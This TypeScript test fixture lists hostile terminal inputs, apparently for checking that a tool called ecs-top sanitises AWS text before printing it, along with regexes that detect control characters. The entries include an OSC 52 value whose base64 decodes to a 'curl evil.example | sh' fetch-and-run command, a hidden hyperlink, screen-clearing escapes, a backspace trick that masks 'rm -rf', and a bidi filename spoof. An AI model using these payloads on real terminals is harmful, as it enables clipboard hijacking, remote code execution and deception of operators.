/**
 * Text an attacker with write access to one field of an AWS account (a stop reason, an image
 * name) or a rewriting proxy can put in front of every operator who looks: each would drive
 * the terminal if printed raw, or breaks the layout, or both.
 */
const esc = '\u001b';
const bel = '\u0007';

export type HostileValue = {readonly name: string; readonly value: string};

export const hostileValues: readonly HostileValue[] = [
	{name: 'OSC 0 title', value: `deploy${esc}]0;pwned${bel}`},
	{name: 'OSC 2 title', value: `deploy${esc}]2;pwned${esc}\\`},
	{name: 'OSC 8 hyperlink', value: `${esc}]8;;http://evil.example/${bel}click${esc}]8;;${bel}`},
	{
		name: 'OSC 52 clipboard',
		value: `deploy${esc}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3h8c2g=${bel}`,
	},
	{name: 'C1 CSI clear', value: 'ok\u009b2J\u009bHgone'},
	{name: 'CSI clear screen', value: `ok${esc}[2J${esc}[Hgone`},
	{name: 'CSI cursor move', value: `ok${esc}[5;5Hmoved${esc}[10A`},
	{name: 'CSI scroll region', value: `ok${esc}[1;3r${esc}[S`},
	{name: 'DCS', value: `ok${esc}P+q544e${esc}\\`},
	{name: 'CR', value: 'harmless\rEVIL overwrote the row'},
	{name: 'LF', value: 'first\nsecond line'},
	{name: 'BS', value: 'rm -rf\b\b\b\b\b\bls    '},
	{name: 'NUL', value: 'before\u0000after'},
	{name: 'bidi override U+202E', value: 'invoice\u202egpj.exe'},
	{name: 'bidi isolate U+2066', value: 'a\u2066b\u2069c'},
	{name: '10,000 characters', value: 'x'.repeat(10_000)},
	{name: 'emoji', value: 'deploy 🚀 done ✅'},
	{name: 'CJK', value: '日本語のサービス'},
];

/** Characters no terminal may receive from ecs-top's text (its own escape codes aside). */
// eslint-disable-next-line no-control-regex
export const rawControl = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** Any control at all, newline and tab included: for text inside one line. */
// eslint-disable-next-line no-control-regex
export const anyControl = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
